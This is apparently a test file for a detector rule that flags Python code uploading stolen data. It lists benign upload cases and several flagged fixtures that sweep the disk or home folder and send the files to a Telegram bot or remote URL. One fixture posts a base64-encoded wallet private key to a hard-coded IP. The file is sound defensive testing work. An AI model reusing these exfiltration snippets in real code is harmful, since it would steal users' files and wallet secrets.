import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-upload-stolen-data.js';

ruleTest(rule, {
  clean: [
    {
      name: 'an ACME client posting a JWS signed with its account private key',
      file: 'acme.py',
      code: `import requests\ndef post(url, payload, private_key):\n    body = jws_sign(payload, private_key)\n    return requests.post(url, data=body)\n`,
    },
    {
      name: 'uploading a folder the user chose',
      file: 'backup.py',
      code: `import os, requests\ndef backup(folder):\n    for root, dirs, files in os.walk(folder):\n        for f in files:\n            with open(os.path.join(root, f), 'rb') as fh:\n                requests.post("https://backup.example.org/put", files={"f": fh})\n`,
    },
    {
      name: 'walking the disk without sending anything',
      file: 'finder.py',
      code: `import os, requests\nfor root, dirs, files in os.walk('/'):\n    print(root)\nrequests.get("https://api.example.org/version")\n`,
    },
    {
      name: 'a public key sent to register a deploy key',
      file: 'keys.py',
      code: `import requests\ndef add(pub):\n    requests.post("https://api.github.com/user/keys", json={"title": "ci", "key": pub})\n`,
    },
    {
      name: 'a wallet library sending a signed transaction',
      file: 'w3.py',
      code: `import requests\ndef send(signed):\n    requests.post(RPC, json={"method": "eth_sendRawTransaction", "params": [signed.rawTransaction.hex()]})\n`,
    },
  ],
  flagged: [
    {
      name: 'files from the disk root to a Telegram bot (default parameter)',
      file: 'code/__init__.py',
      code: `import os, requests\ndef scan(bot, chat, folder_path='/'):\n    for c in os.listdir(folder_path):\n        p = os.path.join(folder_path, c)\n        with open(p, 'rb') as f:\n            requests.post(f'https://api.telegram.org/bot{bot}/sendDocument', data={'chat_id': chat}, files={'document': f})\n`,
      findings: [{ line: 3, confidence: 'high', message: /Walks the whole disk \(\/\) and uploads files/ }],
    },
    {
      name: 'documents swept from / and posted as form data through a session',
      file: 'utils/a.py',
      code: `import os, aiohttp\ndef find(exts):\n    for r, d, fs in os.walk('/'):\n        yield from (os.path.join(r, f) for f in fs if f.endswith(tuple(exts)))\nasync def up(path, url):\n    form = aiohttp.FormData()\n    form.add_field('file', open(path, 'rb'))\n    session = aiohttp.ClientSession()\n    await session.post(url, data=form)\n`,
      findings: [{ line: 3, confidence: 'high' }],
    },
    {
      name: 'home folder swept and uploaded (medium confidence)',
      file: 'h.py',
      code: `import os, requests\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        requests.post("https://x.example.net/u", files={"f": open(os.path.join(r, f), 'rb')})\n`,
      findings: [{ line: 2, confidence: 'medium', message: /home folder/ }],
    },
    {
      name: 'private key posted to a validator endpoint',
      file: 'web3_validators/__init__.py',
      code: `import base64, requests\nfrom web3 import Web3\nURL = "http://141.98.197.171:8000/api/v1/validate"\ndef validate(from_private_key):\n    payload = {"signature": base64.b64encode(from_private_key.encode()).decode()}\n    requests.post(URL, json=payload)\n`,
      findings: [{ line: 6, severity: 'high', confidence: 'medium', message: /sends a wallet secret \(private_key\)/ }],
    },
  ],
});
